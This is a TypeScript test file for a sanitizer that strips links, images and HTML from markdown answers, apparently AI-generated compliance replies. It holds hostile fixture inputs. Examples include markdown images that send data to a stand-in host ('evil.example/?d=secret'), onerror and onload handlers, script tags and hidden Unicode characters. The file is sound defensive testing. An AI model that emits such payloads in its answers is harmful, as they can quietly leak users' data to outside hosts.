import { describe, expect, test } from 'vitest';
import { harmless } from '../../src/grounding/index.js';
import { randomFrom } from '../durability/support/random.js';
import { dangersIn } from '../support/markdown-dangers.js';

const SOURCED = 'https://trust.acme.example/soc2';
const QUOTES = [
  `![no link](http://evil.example/?d=1) <a href="http://evil.example"> Our report stands at ${SOURCED}. Write to [us](mailto:sales@acme.example).`,
];

/** The link that a source names is none. */
const strayIn = (markdown: string) => dangersIn(markdown).filter((danger) => danger !== `href=${SOURCED}`);

describe('nothing is fetched for an answer, and nothing leads out of it', () => {
  test.for([
    ['We comply. ![x](http://evil.example/?d=secret)', 'We comply. x'],
    ['We comply![1] ![](http://evil.example)', 'We comply![1] '],
    ['![a](<http://evil.example/ x> "t") b', 'a b'],
    ['[![x](http://evil.example/i)](http://evil.example)', 'x'],
    ['See [our site](http://evil.example/?d=1).', 'See our site.'],
    ['See [1](http://evil.example/?d=1).', 'See [1].'],
    ['See http://evil.example/?d=1, please.', 'See (link removed), please.'],
    ['See <http://evil.example/?d=1>.', 'See (link removed).'],
    ['See www.evil.example.', 'See (link removed).'],
    ['![x][p]\n\n[p]: //evil.example/x.png', '[x][p]\n\n[p] : //evil.example/x.png'],
    ['a <img src=http://evil.example onerror="x()"> b', 'a  b'],
    ['a <im<a>g src=x> b', 'a  b'],
    ['a <IMG\nsrc\n=\n"\\\\evil.example\\x" b', 'a &lt;IMG\nsrc\n=\n"\\\\evil.example\\x" b'],
    ['a <p style="background:url(//evil.example)">b</p>', 'a b</p>'],
    ['<!-- hidden --><script>x()</script>', 'x()'],
    [`It is at [our trust page](${SOURCED}).`, `It is at [our trust page](${SOURCED}).`],
    [`It is at ${SOURCED}.`, `It is at ${SOURCED}.`],
    [`"${SOURCED}" says so`, `"${SOURCED} " says so`],
    [`${SOURCED}.evil.example/?d=1`, '(link removed)'],
    [`${SOURCED}?d=1`, '(link removed)'],
    [`![x](${SOURCED})`, 'x'],
    ['[write](mailto:sales@acme.example)', '[write](mailto:sales@acme.example)'],
    ['[write](mailto:thief@evil.example)', 'write'],
    ['[x](http:evil.example) [y](/\\evil.example) [z](#a)', 'x y z'],
    ['[a [1] b](http://evil.example)', '[a [1] b] ((link removed))'],
    ['pay\u202eload \u{e0041}\u{e0042}\u200bhere', 'payload here'],
  ])('%j becomes %j', ([given, expected]) => {
    const text = harmless(given!, QUOTES);
    expect(text).toBe(expected);
    expect(strayIn(text)).toEqual([]);
    expect(harmless(text, QUOTES)).toBe(text);
  });

  test('what is no danger stays as it is', () => {
    for (const text of [
      'Yes! [1] 5 < 6 and 7 > 6; a[0] = b[1]; see chapter (2) [1, 2].',
      '| a | b |\n| --- | --- |\n| 1 | <br> 2 [1] |',
      '> **Quoted:** _so_ [2]\n\n- one\n- two, at sales@acme.example',
      'Dear <Client name>, we hold ISO/IEC 27001:2022. Wow!!',
    ])
      expect(harmless(text, [])).toBe(text);
  });

  test('whatever pieces it is put together from', () => {
    const pieces = [
      ...[
        '!',
        '![',
        '[',
        ']',
        '](',
        ')',
        '(',
        '[p]',
        ']:',
        '[p]: ',
        '<',
        '>',
        '/',
        '"',
        "'",
        '=',
        ' ',
        '\n',
        '\\',
      ],
      ...[
        'http://evil.example/?d=1',
        'https:',
        '//evil.example',
        'www.evil.example',
        '1http://evil.example',
        SOURCED,
        'mailto:a@evil.example',
      ],
      ...[
        '<img src=',
        '<a href=',
        '<svg/onload=',
        '<!--',
        '-->',
        '&#104;',
        'data:',
        'text',
        '[1]',
        '|',
        '`',
        '“',
        '\u200b',
      ],
    ];
    const random = randomFrom(20_261_122);
    let wasDangerous = 0;
    for (let n = 0; n < 8_000; n++) {
      const text = Array.from(
        { length: random.between(2, 14) },
        () => pieces[random.between(0, pieces.length - 1)]!,
      ).join('');
      if (strayIn(text).length > 0) wasDangerous++;
      const shown = harmless(text, QUOTES);
      expect(strayIn(shown), JSON.stringify([text, shown])).toEqual([]);
    }
    expect(wasDangerous).toBeGreaterThan(800);
  });

  test('in time that grows with its length, also where it is made to take long', () => {
    const begin = performance.now();
    for (const piece of [
      '[',
      '![',
      '!',
      '[](',
      '[x](u)',
      '<a ',
      '<a b=',
      '<!--',
      ' ',
      '](',
      'http://',
      '[]: ',
      '(',
      '[a]:',
    ])
      harmless(piece.repeat(100_000 / piece.length), QUOTES);
    harmless(`${'['.repeat(20_000)}x${'](u)'.repeat(20_000)}`, QUOTES);
    harmless(`[](${' '.repeat(100_000)}`, QUOTES);
    expect(performance.now() - begin).toBeLessThan(5_000);
  });
});
